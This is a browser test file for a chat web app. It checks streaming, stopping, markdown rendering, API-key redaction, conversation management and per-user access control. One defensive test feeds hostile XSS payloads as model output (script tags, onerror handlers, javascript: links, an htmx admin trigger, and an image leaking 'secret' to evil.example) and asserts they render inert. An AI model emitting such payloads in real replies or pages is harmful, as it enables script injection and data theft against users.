"""Journeys through the chat in real Chromium, against the app under daphne and the fake
upstream. What is asserted is what a user sees (accessible names, rendered text) plus, where it
matters, what the provider saw and what was stored."""

from __future__ import annotations

import uuid
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from tests.browser.live_app import API_KEY, LiveApp
from tests.browser.ui import (
    conversation_id,
    message_box,
    messages,
    normalized,
    open_new_chat,
    replies,
    send,
    sidebar,
    sign_in,
    start_conversation,
    wait_until_finished,
)
from tests.fake_upstream import Script

pytestmark = pytest.mark.browser

STORED_MESSAGES = (
    "SELECT role, status, content, error FROM conversations_message"
    " WHERE conversation_id = %s ORDER BY id"
)

# Every length the streaming reply's text passes through, recorded as the DOM changes: a
# MutationObserver sees each websocket frame's text land, however fast the test polls.
RECORD_STREAM_LENGTHS = """() => {
  window.__streamLengths = [];
  const messages = document.getElementById("messages");
  new MutationObserver(() => {
    const target = messages.querySelector(".message--assistant [data-stream-content]");
    if (target) window.__streamLengths.push(target.textContent.length);
  }).observe(messages, { childList: true, subtree: true, characterData: true });
}"""


def test_a_conversation_streams_stops_and_survives_a_reload(page: Page, user, fake, app: LiveApp):
    tokens = [f"word{i} " for i in range(30)]
    full_reply = "".join(tokens).strip()
    question = "How does streaming work here?"
    fake.enqueue(Script.stream(tokens, delay=0.03))

    sign_in(page, user)
    open_new_chat(page)
    page.evaluate(RECORD_STREAM_LENGTHS)
    send(page, question)

    reply = replies(page).first
    wait_until_finished(reply)
    expect(reply.locator(".message-body")).to_have_text(full_reply)
    lengths = page.evaluate("window.__streamLengths")
    partial = {n for n in lengths if 0 < n < len(full_reply)}
    assert len(partial) >= 2, f"the reply did not arrive piece by piece: {lengths}"

    expect(messages(page).first).to_contain_text(question)
    cid = conversation_id(page)
    expect(page.get_by_role("heading", level=1)).to_have_text(question)
    entry = sidebar(page).get_by_role("link", name=question)
    expect(entry).to_have_attribute("href", f"/c/{cid}/")
    sent = fake.requests[-1]
    assert sent.headers["authorization"] == f"Bearer {API_KEY}"
    assert sent.json["messages"][-1] == {"role": "user", "content": question}

    # A long reply, stopped part way.
    fake.enqueue(Script.tokens(n=2000, delay=0.02))
    send(page, "Now write a very long story")
    long_reply = replies(page).nth(1)
    expect(long_reply.locator("[data-stream-content]")).to_contain_text("tok5 ")
    stop = page.get_by_role("button", name="Stop")
    stop.click()
    expect(stop).to_be_hidden()
    wait_until_finished(long_reply, "stopped")
    expect(long_reply.locator(".message-note")).to_have_text("Stopped.")
    expect(page.get_by_role("button", name="Send")).to_be_visible()
    assert fake.wait_for_disconnect(timeout=5), "the upstream request was not closed"
    shown_live = normalized(long_reply.locator(".message-body").inner_text())

    page.reload()
    rows = messages(page)
    expect(rows).to_have_count(4)
    expect(rows.nth(0)).to_contain_text(question)
    expect(rows.nth(1).locator(".message-body")).to_have_text(full_reply)
    expect(rows.nth(2)).to_contain_text("Now write a very long story")
    stopped = rows.nth(3)
    expect(stopped).to_have_attribute("data-status", "stopped")
    expect(stopped.locator(".message-note")).to_have_text("Stopped.")
    shown = normalized(stopped.locator(".message-body").inner_text())
    assert shown == shown_live
    assert shown.startswith("tok0 tok1 tok2 tok3 tok4 tok5")
    assert len(shown.split()) < 2000

    stored = app.query(STORED_MESSAGES, (uuid.UUID(cid),))
    assert [(role, status) for role, status, _, _ in stored] == [
        ("user", "complete"),
        ("assistant", "complete"),
        ("user", "complete"),
        ("assistant", "stopped"),
    ]
    assert normalized(stored[1][2]) == full_reply
    assert normalized(stored[3][2]) == shown


def test_shift_enter_starts_a_new_line_instead_of_sending(page: Page, user, fake):
    sign_in(page, user)
    box = message_box(page)
    box.fill("first line")
    box.press("Shift+Enter")
    box.press_sequentially("second line")

    expect(box).to_have_value("first line\nsecond line")
    expect(messages(page)).to_have_count(0)
    assert fake.requests == []

    # Enter sends both lines as one message: the Shift+Enter above sent nothing.
    box.press("Enter")
    wait_until_finished(replies(page).first)
    expect(box).to_have_value("")
    assert len(fake.requests) == 1
    assert fake.requests[0].json["messages"][-1]["content"] == "first line\nsecond line"
    expect(messages(page).first.locator(".message-body br")).to_have_count(1)


MARKDOWN_REPLY = """# Release notes

## What changed

- Faster streaming
- Safer rendering

| Feature | State |
| --- | :---: |
| Stop | done |
| Rename | done |

```python
def greet(name: str) -> str:
    return f"Hello, {name}!"
```
"""


def test_a_markdown_reply_is_rendered_with_highlighted_code(page: Page, user, fake):
    # Small pieces, so headings, rows and fences arrive split across frames.
    pieces = [MARKDOWN_REPLY[i : i + 5] for i in range(0, len(MARKDOWN_REPLY), 5)]
    fake.enqueue(Script.stream(pieces, delay=0.002))
    sign_in(page, user)
    send(page, "What changed in the release?")

    reply = replies(page).first
    wait_until_finished(reply)
    body = reply.locator(".message-body")
    expect(body.locator("h1")).to_have_text("Release notes")
    expect(body.locator("h2")).to_have_text("What changed")
    expect(body.locator("li")).to_have_text(["Faster streaming", "Safer rendering"])
    expect(body.locator("table th")).to_have_text(["Feature", "State"])
    expect(body.locator("table td")).to_have_count(4)
    expect(body.locator("table td").nth(1)).to_have_attribute("align", "center")
    code = body.locator(".codeblock[data-lang='python'] .highlight")
    expect(code).to_have_count(1)
    expect(code).to_contain_text('return f"Hello, {name}!"')
    expect(code.locator("span.k", has_text="def")).to_have_count(1)
    expect(code.locator("span.nf")).to_have_text("greet")
    # The highlighting stylesheet is loaded and applies (same-origin, allowed by the CSP).
    keyword_color, text_color = code.locator("span.k").first.evaluate(
        "k => [getComputedStyle(k).color, getComputedStyle(k.closest('.message-body')).color]"
    )
    assert keyword_color != text_color


HOSTILE = (
    "<script>window.__pwned=1</script>"
    '<img src=x onerror="window.__pwned=2"> '
    "[click](javascript:window.__pwned=3) "
    '<a hx-get="/admin/" hx-trigger="load">x</a>'
)
HOSTILE_REPLY = f"""{HOSTILE}

# {HOSTILE}

- {HOSTILE}

| a | b |
| --- | --- |
| {HOSTILE} | [home](/admin/) |

> **{HOSTILE}** ![leak](https://evil.example/x.png?q=secret) ![js](javascript:window.__pwned=4)
"""

# Everything inside a reply's body that could run code, load something, or fire htmx.
INSPECT_BODY = """body => {
  const elements = [...body.querySelectorAll("*")];
  return {
    tags: [...new Set(elements.map((el) => el.tagName.toLowerCase()))],
    attributes: [...new Set(elements.flatMap((el) => [...el.attributes].map((a) => a.name)))],
    hrefs: [...body.querySelectorAll("[href]")].map((el) => el.getAttribute("href")),
  };
}"""


def _assert_inert(page: Page) -> None:
    assert page.evaluate("typeof window.__pwned") == "undefined"
    body = replies(page).first.locator(".message-body")
    expect(body).to_contain_text("<script>window.__pwned=1</script>")  # shown as text
    found = body.evaluate(INSPECT_BODY)
    assert not {"script", "img", "iframe", "object", "embed", "style"} & set(found["tags"])
    risky = [a for a in found["attributes"] if a.startswith(("on", "hx-", "data-hx", "src"))]
    assert risky == []
    assert all(href.startswith(("http://", "https://")) for href in found["hrefs"]), found
    expect(page.locator("#messages script, #messages img")).to_have_count(0)


def test_hostile_model_output_is_inert(page: Page, user, fake):
    pieces = [HOSTILE_REPLY[i : i + 7] for i in range(0, len(HOSTILE_REPLY), 7)]
    fake.enqueue(Script.stream(pieces, delay=0.002))
    sign_in(page, user)
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    send(page, "Say something nasty")
    wait_until_finished(replies(page).first)
    _assert_inert(page)

    # The page as served (not patched in over the socket) renders it the same way.
    page.reload()
    _assert_inert(page)
    paths = [urlsplit(url).path for url in requested]
    assert not [p for p in paths if p.startswith("/admin")], paths
    assert not [u for u in requested if "evil.example" in u]


def test_a_provider_error_is_shown_without_the_api_key(page: Page, user, fake, app: LiveApp):
    fake.enqueue(
        Script.error(
            401,
            {
                "error": {
                    "message": f"Incorrect API key provided: {API_KEY}",
                    "type": "invalid_request_error",
                }
            },
        )
    )
    sign_in(page, user)
    send(page, "Hello?")

    reply = replies(page).first
    wait_until_finished(reply, "error")
    alert = reply.get_by_role("alert")
    expect(alert).to_contain_text("Incorrect API key provided")
    # The key really was sent (and echoed back), so its absence below is the app's doing.
    assert fake.requests[0].headers["authorization"] == f"Bearer {API_KEY}"
    assert API_KEY not in page.content()

    page.reload()
    expect(replies(page).first.get_by_role("alert")).to_contain_text("Incorrect API key provided")
    assert API_KEY not in page.content()
    stored = app.query(STORED_MESSAGES, (uuid.UUID(conversation_id(page)),))
    assert stored[-1][1] == "error"
    assert API_KEY not in stored[-1][3]


def test_rename_and_delete_a_conversation(page: Page, user, fake, app: LiveApp):
    sign_in(page, user)
    kept = start_conversation(page, "Keep this one")
    open_new_chat(page)
    cid = start_conversation(page, "Plan the offsite agenda")
    # The page was served before the conversation existed; its controls come with a reload.
    page.reload()

    page.locator("summary", has_text="Rename").click()
    page.get_by_label("Title").fill("Offsite 2025")
    page.get_by_role("button", name="Save title").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Offsite 2025")
    entry = sidebar(page).locator(f'[data-conversation-id="{cid}"]')
    expect(entry).to_have_text("Offsite 2025")
    expect(sidebar(page).get_by_role("link", name="Plan the offsite agenda")).to_have_count(0)
    assert app.query(
        "SELECT title FROM conversations_conversation WHERE id = %s", (uuid.UUID(cid),)
    ) == [("Offsite 2025",)]

    dialogs: list[str] = []

    def accept(dialog) -> None:
        dialogs.append(dialog.message)
        dialog.accept()

    page.once("dialog", accept)
    page.get_by_role("button", name="Delete").click()
    expect(page).to_have_url(f"{app.url}/")
    assert dialogs and "cannot be undone" in dialogs[0]
    expect(entry).to_have_count(0)
    expect(sidebar(page).locator(f'[data-conversation-id="{kept}"]')).to_have_count(1)
    response = page.goto(f"/c/{cid}/")
    assert response is not None and response.status == 404
    assert app.query(STORED_MESSAGES, (uuid.UUID(cid),)) == []


def test_someone_elses_conversation_is_not_found(new_page, app: LiveApp, fake):
    alice, bob = app.create_user("alice"), app.create_user("bob")
    alice_page = new_page()
    sign_in(alice_page, alice)
    cid = start_conversation(alice_page, "Alice's private plans")

    bob_page = new_page()
    sign_in(bob_page, bob)
    response = bob_page.goto(f"/c/{cid}/")
    assert response is not None and response.status == 404
    expect(bob_page.get_by_text("Alice's private plans")).to_have_count(0)
    missing = bob_page.goto(f"/c/{uuid.uuid4()}/")
    assert missing is not None and missing.status == 404
    bob_page.goto("/")
    expect(sidebar(bob_page).get_by_role("link", name="Alice's private plans")).to_have_count(0)

    # Nor can Bob delete it by posting to its URL.
    csrf = next(c["value"] for c in bob_page.context.cookies() if c["name"] == "csrftoken")
    deleted = bob_page.request.post(f"/c/{cid}/delete/", headers={"X-CSRFToken": csrf})
    assert deleted.status == 404
    assert len(app.query(STORED_MESSAGES, (uuid.UUID(cid),))) == 2
